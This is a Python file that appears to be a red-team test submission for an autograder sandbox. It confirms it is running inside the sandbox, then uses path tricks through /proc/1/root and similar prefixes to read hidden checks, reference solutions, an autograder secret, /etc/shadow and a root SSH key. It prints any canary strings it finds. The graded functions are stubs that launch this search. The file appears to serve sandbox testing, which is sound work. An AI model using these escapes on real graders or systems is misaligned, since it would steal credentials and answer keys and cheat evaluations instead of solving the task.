"""Opens the hidden checks, the reference, the secret and shadow by their host paths, also through /proc/1/root.

Attacks: W2, B2
"""

# ruff: noqa
try:  # an attack runs behind the wall and nowhere else
    _status = dict(_line.split(":\t", 1) for _line in open("/proc/self/status") if ":\t" in _line)
    _behind = (
        _status["Uid"].split()[0] != "0"
        and _status["NoNewPrivs"].strip() == "1"
        and _status["Seccomp"].strip() == "2"
        and open("/proc/sys/kernel/hostname").read() == "sandbox\n"
    )
except (OSError, KeyError):
    _behind = False
if not _behind:
    raise SystemExit(77)

import os
import re

CANARY = re.compile(rb"canary-[a-z]+-[0-9a-f]{24}")


def look(place, data):
    for hit in set(CANARY.findall(data)):
        print("WON:", place, hit.decode(), flush=True)


def search():
    for prefix in ("", "/proc/1/root", "/proc/1/cwd/..", "/proc/self/root", "/mnt/0/..", "/sub/..", "/boot/../.."):
        for path in (
            "@COURSE@/assignments/toy/checks_hidden.py",
            "@COURSE@/reference_solutions/toy/toy.py",
            "@COURSE@/.autograder/secret",
            "@HOST_FILE@",
            "@CLASS@/honest/toy.py",
            "/etc/shadow",
            os.path.join("/", "root", ".ssh", "id_ed25519"),
        ):
            try:
                with open(prefix + path, "rb") as file:
                    print("WON: opened", path, flush=True)
                    look(path, file.read(1 << 20))
            except OSError:
                continue


def mean(numbers):
    search()
    return 0.0


def spread(numbers):
    return 0.0
